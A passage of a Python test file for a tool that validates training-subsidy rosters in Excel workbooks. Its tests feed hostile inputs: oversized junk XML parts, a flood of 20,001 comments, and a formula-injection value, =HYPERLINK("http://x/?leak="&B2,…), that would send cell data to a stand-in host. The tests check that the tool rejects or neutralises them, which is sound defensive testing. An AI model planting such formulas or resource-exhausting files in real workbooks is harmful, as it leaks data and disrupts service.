    """Parts no relationship names, full of `<c r='A1'/>`, cost no per-cell work."""
    import time

    junk = (
        b"<?xml version='1.0'?><worksheet><sheetData><row>"
        + b"<c r='A1'/>" * 400_000
        + b"</row></sheetData></worksheet>"
    )
    extra = {f"xl/junk/part{i}.xml": junk for i in range(8)}
    sheet = inject_sheet_xml(roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)]), b"", extra=extra)
    started = time.monotonic()
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM)
    assert result.code == 0, result.err
    assert time.monotonic() - started < 15


def test_a_flood_of_comments_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """20,001 tiny comments in a comments part (28 s in openpyxl once): exit 2, one line."""
    comments = (
        b'<?xml version="1.0"?><comments><authors><author>x</author></authors><commentList>'
        + b'<comment ref="A1" authorId="0"><text><t>x</t></text></comment>' * 20_001
        + b"</commentList></comments>"
    )
    sheet = inject_sheet_xml(
        roster(tmp_path / "r.xlsx", [trainee("张三", ID_A)]),
        b"",
        extra={"xl/comments1.xml": comments},
    )
    result = run(tmp_path, capsys, monkeypatch, "validate", sheet, "-p", PROGRAM)
    assert result.code == 2 and len(result.err_lines) == 1 and "批注" in result.err


def test_the_monthly_report_keeps_formula_like_text_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """An institution named `=HYPERLINK(…)` is text in the report's 培训机构 sheet."""
    evil = '=HYPERLINK("http://x/?leak="&B2,"点我")'
    sheet = roster(tmp_path / "r.xlsx", [trainee("张三", ID_A, evil)])
    book = openpyxl.load_workbook(sheet)
    ws = book.active
    assert ws is not None
    ws.cell(row=3, column=HEADER.index("培训机构") + 1).data_type = "s"
    book.save(sheet)
    ledger = tmp_path / "l.sqlite3"
    # an office that works alone: its run counts as paid once recorded, so the report shows it
    params = tmp_path / "skillpolicy.toml"
    params.write_text('approval = ["经办"]\n', encoding="utf-8")
    paid = run(tmp_path, capsys, monkeypatch, "subsidy", sheet, "-p", PROGRAM, "--ledger", ledger,
               "--params", params, "--commit")  # fmt: skip
    assert paid.code in (0, 1), paid.err
    month = dt.date.today().strftime("%Y-%m")
    result = run(tmp_path, capsys, monkeypatch, "report", "monthly", "--month", month,
                 "--ledger", ledger, "--out", tmp_path / "月报")  # fmt: skip
    assert result.code == 0, result.err
    report = openpyxl.load_workbook(tmp_path / "月报" / month / f"月报-{month}.xlsx")
    cells = [
        cell
        for ws_ in report.worksheets
        for row in ws_.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_a_panicking_cell_in_a_catalog_sheet_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: Any
) -> None:
    """catalog import of a sheet with a date-formatted -1.1e11: exit 2, no exit 3 or 1."""
    path = write_rows(
        tmp_path / "c.xlsx", [["行业", "职业（工种）", "日期"], ["机械", "车工", -1.1e11]]
    )
    book = openpyxl.load_workbook(path)
    ws = book.active
    assert ws is not None
    ws["C2"].number_format = "yyyy-mm-dd"
    book.save(path)
    result = run(tmp_path, capsys, monkeypatch, "catalog", "import", path, "--id", "x-z", "--title",
                 "t", "--source", "s", "--out", tmp_path / "x-z.toml")  # fmt: skip
    assert result.code == 2 and len(result.err_lines) == 1 and "无法读取" in result.err
    assert not (tmp_path / "x-z.toml").exists()
